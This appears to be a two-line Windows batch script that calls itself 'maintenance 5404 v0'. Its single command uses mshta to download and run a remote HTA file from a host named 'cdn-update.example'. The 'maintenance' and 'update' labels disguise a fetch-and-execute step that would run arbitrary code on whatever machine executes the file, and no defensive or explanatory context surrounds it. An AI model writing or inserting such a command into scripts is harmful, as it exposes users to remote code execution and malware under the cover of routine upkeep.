REM maintenance 5404 v0
mshta http://cdn-update.example/update.hta
